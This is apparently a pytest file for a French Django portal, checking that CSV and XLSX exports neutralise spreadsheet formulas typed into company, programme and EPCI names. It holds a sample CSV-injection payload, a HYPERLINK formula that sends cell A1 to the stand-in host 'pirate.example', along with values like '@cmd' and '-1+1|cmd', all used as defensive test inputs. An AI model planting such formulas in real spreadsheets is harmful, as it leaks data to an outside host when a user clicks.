"""The one formula-safe writer: every CSV and XLSX export neutralises company-typed formulas, and
the cell reads back as the text typed (never a formula)."""

import csv
import io
from datetime import datetime
from decimal import Decimal
from io import BytesIO, StringIO

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from portal.roles import Role
from portal.tableurs import Classeur, Colonne, cellule_csv, csv_ecrire
from portal.tests.factories import AgentFactory

PIEGE = '=HYPERLINK("http://pirate.example/?x="&A1;"Cliquez")'


def _csv(reponse) -> list[list[str]]:
    brut = b"".join(reponse.streaming_content) if reponse.streaming else reponse.content
    return list(csv.reader(io.StringIO(brut.decode("utf-8-sig")), delimiter=";"))


@pytest.mark.parametrize(
    ("valeur", "attendu"),
    [
        ("=1+1", "'=1+1"),
        ("+33 6", "'+33 6"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Prêt", "Prêt"),
        (None, ""),
        (True, "oui"),
        (-5, "-5"),
        (Decimal("-1.50"), "-1.50"),
    ],
)
def test_a_text_cell_starting_like_a_formula_gets_an_apostrophe_but_numbers_stay_numbers(valeur, attendu):
    assert cellule_csv(valeur) == attendu


def test_the_csv_writer_writes_a_bom_semicolons_and_neutralises_the_header_too():
    sortie = StringIO()
    assert csv_ecrire(sortie, ["=titre", "b"], [[PIEGE, 3], ["x", None]]) == 2
    texte = sortie.getvalue()
    assert texte.startswith("\ufeff")
    lignes = list(csv.reader(io.StringIO(texte[1:]), delimiter=";"))
    assert lignes == [["'=titre", "b"], ["'" + PIEGE, "3"], ["x", ""]]


def test_an_xlsx_text_cell_is_a_string_never_a_formula_and_dates_and_euros_are_typed():
    classeur = Classeur()
    colonnes = [Colonne("Nom"), Colonne("Montant", "euros"), Colonne("Le", "date"), Colonne("N", "entier")]
    moment = timezone.make_aware(datetime(2026, 3, 1, 23, 30))  # 1 March in Paris
    classeur.feuille("Feuille", colonnes, [[PIEGE, Decimal("12500.50"), moment, 3], ["a\x00b", None, None, None]])
    feuille = load_workbook(BytesIO(classeur.octets())).active
    nom, montant, le, n = feuille[2]
    assert nom.value == PIEGE and nom.data_type == "s"
    assert montant.value == 12500.5 and montant.data_type == "n" and "€" in montant.number_format
    assert le.value == datetime(2026, 3, 1) and le.is_date and le.number_format == "DD/MM/YYYY"
    assert n.value == 3
    assert feuille["A3"].value == "ab"  # control characters dropped, not a broken file
    assert feuille.freeze_panes == "A2"
    assert feuille.auto_filter.ref == "A1:D3"


def test_plain_texts_formula_like_texts_and_error_like_texts_all_read_back_as_the_text_typed():
    classeur = Classeur()
    textes = ["Prêt", "=1+1", "#N/A", "#DIV/0!", "-2+3", "@SUM(A1)", "=", "Un texte"]
    classeur.feuille("Feuille", [Colonne(f"C{i}") for i in range(len(textes))], [textes, list(reversed(textes))])
    feuille = load_workbook(BytesIO(classeur.octets())).active
    for rangee, attendus in ((feuille[2], textes), (feuille[3], list(reversed(textes)))):
        assert [c.value for c in rangee] == attendus
        assert {c.data_type for c in rangee} == {"s"}


@pytest.mark.django_db
def test_the_catalogue_csv_neutralises_a_formula_typed_as_a_name(client):
    from aides.catalogue.tests.factories import DispositifFactory

    DispositifFactory(nom=PIEGE, slug="piege")
    lignes = _csv(client.get("/aides/export.csv"))
    assert lignes[1][0] == "'" + PIEGE


@pytest.mark.django_db
def test_the_crm_csv_neutralises_a_formula_typed_as_a_company_name(client):
    from crm.tests.factories import EtablissementFactory

    etablissement = EtablissementFactory(entreprise__denomination=PIEGE, enseigne="@cmd")
    client.force_login(AgentFactory(roles=[Role.CHARGE_DE_MISSION]))
    lignes = _csv(client.get(reverse("crm_agents:export-csv"), {"q": etablissement.siret}))
    valeurs = dict(zip(lignes[0], lignes[1], strict=True))
    assert valeurs["Dénomination"] == "'" + PIEGE and valeurs["Enseigne"] == "'@cmd"


@pytest.mark.django_db
def test_the_coverage_csv_neutralises_a_formula_typed_as_an_epci_name(client):
    from territoires.models import EPCI as Epci

    epci = Epci.objects.order_by("pk").first()
    Epci.objects.filter(pk=epci.pk).update(nom="-1+1|cmd")
    client.force_login(AgentFactory(roles=[Role.PILOTAGE]))
    lignes = _csv(client.get(reverse("territoires_agents:couverture-csv")))
    assert "'-1+1|cmd" in [ligne[1] for ligne in lignes[1:]]
    assert not [c for ligne in lignes for c in ligne if c[:1] in ("=", "+", "-", "@")]


@pytest.mark.django_db
def test_the_scdl_open_data_neutralises_a_formula_typed_as_a_company_name_and_stays_valid(client, settings, tmp_path):
    from aides.conventions import scdl
    from aides.conventions.tests.factories import convention_notifiee

    settings.MEDIA_ROOT = tmp_path
    convention = convention_notifiee(montant=Decimal("40000"))
    entreprise = convention.etablissement.entreprise
    entreprise.denomination = PIEGE
    entreprise.save(update_fields=["denomination"])
    client.force_login(AgentFactory(roles=[Role.GESTIONNAIRE_SAF]))
    reponse = client.get(reverse("aides_saf:scdl"), {"annee": timezone.localdate().year})
    texte = reponse.content.decode()
    assert scdl.valider_csv(texte) == []
    ligne = dict(zip(*list(csv.reader(io.StringIO(texte))), strict=True))
    assert ligne["nomBeneficiaire"] == "'" + PIEGE


@pytest.mark.django_db
def test_the_saf_xlsx_has_string_cells_real_dates_euros_a_frozen_filtered_header_and_step_delays(
    client, settings, tmp_path
):
    from aides.conventions.tests.factories import convention_notifiee

    settings.MEDIA_ROOT = tmp_path
    convention = convention_notifiee(montant=Decimal("30000"))
    entreprise = convention.etablissement.entreprise
    entreprise.denomination = PIEGE
    entreprise.save(update_fields=["denomination"])
    client.force_login(AgentFactory(roles=[Role.GESTIONNAIRE_SAF]))
    reponse = client.get(reverse("aides_saf:export"))
    assert reponse.status_code == 200
    classeur = load_workbook(BytesIO(reponse.content))
    feuille = classeur["Conventions"]
    entete = [c.value for c in feuille[1]]
    ligne = dict(zip(entete, feuille[2], strict=True))
    assert ligne["Bénéficiaire"].value == PIEGE and ligne["Bénéficiaire"].data_type == "s"
    assert ligne["Montant"].value == 30000 and "€" in ligne["Montant"].number_format
    assert ligne["Depuis le"].is_date and ligne["Depuis le"].value.date() == timezone.localdate(convention.etape_depuis)
    assert ligne["Créée le"].is_date
    assert ligne["SIRET"].data_type == "s"
    assert ligne["Jours « Notifiée »"].value is not None and ligne["Jours « Éditée »"].data_type == "n"
    assert feuille.freeze_panes == "A2" and feuille.auto_filter.ref.startswith("A1:")
    delais = classeur.worksheets[1]
    assert [c.value for c in delais[1]][:2] == ["Étape", "Par"]
    assert delais.max_row > 1
